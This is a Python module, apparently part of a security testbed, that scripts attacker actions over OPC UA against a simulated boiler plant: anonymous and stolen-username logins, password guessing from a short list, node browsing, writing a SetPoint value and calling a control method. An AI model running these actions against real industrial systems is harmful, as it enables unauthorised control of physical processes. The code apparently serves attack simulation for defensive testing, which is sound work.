"""What the attacker does over OPC UA."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable

from asyncua.client.client import Client
from asyncua.ua.uaerrors import UaError

from testbed.commands import RangeError
from testbed.plant_opcua import BOILER, METHOD, VARIABLES, connect, node_id, url

STOLEN_NAME = "operator"
GUESSES = ("operator", "123456", "admin", "opcua")


def anonymous_login(target: str) -> str:
    async def look(client: Client) -> str:
        return f"let in; {VARIABLES[0]} reads {await client.get_node(node_id(VARIABLES[0])).read_value():.2f}"

    return _with_session(target, None, look)


def user_login(target: str) -> str:
    async def look(client: Client) -> str:
        return f"let in; {VARIABLES[1]} reads {await client.get_node(node_id(VARIABLES[1])).read_value():.2f}"

    return _with_session(target, STOLEN_NAME, look)


def failed_logins(target: str) -> str:
    """Try passwords for a known name; the server refuses each."""

    async def guess() -> str:
        for password in GUESSES:
            client = Client(url(target), timeout=4)
            client.set_user(STOLEN_NAME)
            client.set_password(password)
            try:
                await client.connect()
            except UaError:
                continue
            await client.disconnect()
            raise RangeError(f"{password!r} was let in")
        return f"{len(GUESSES)} logins refused"

    return asyncio.run(guess())


def browse(target: str) -> str:
    async def walk(client: Client) -> str:
        found = 0
        level = [client.nodes.objects]
        for _ in range(3):
            below = [child for node in level for child in await node.get_children()]
            found += len(below)
            level = below[:8]  # a look around, not a crawl
        return f"{found} nodes"

    return _with_session(target, STOLEN_NAME, walk)


def write(target: str) -> str:
    async def change(client: Client) -> str:
        await client.get_node(node_id("SetPoint")).write_value(95.0)
        return "SetPoint = 95.0"

    return _with_session(target, STOLEN_NAME, change)


def method_call(target: str) -> str:
    async def call(client: Client) -> str:
        boiler = client.get_node(BOILER)
        answer = await boiler.call_method(node_id(METHOD), 7)
        return f"{METHOD}(7) returned {answer}"

    return _with_session(target, STOLEN_NAME, call)


def _with_session(target: str, user: str | None, act: Callable[[Client], Awaitable[str]]) -> str:
    async def play() -> str:
        client = await connect(target, user)
        try:
            return await act(client)
        finally:
            await client.disconnect()

    try:
        return asyncio.run(play())
    except (UaError, OSError, TimeoutError) as error:
        raise RangeError(f"OPC UA at {target}: {error or type(error).__name__}") from error
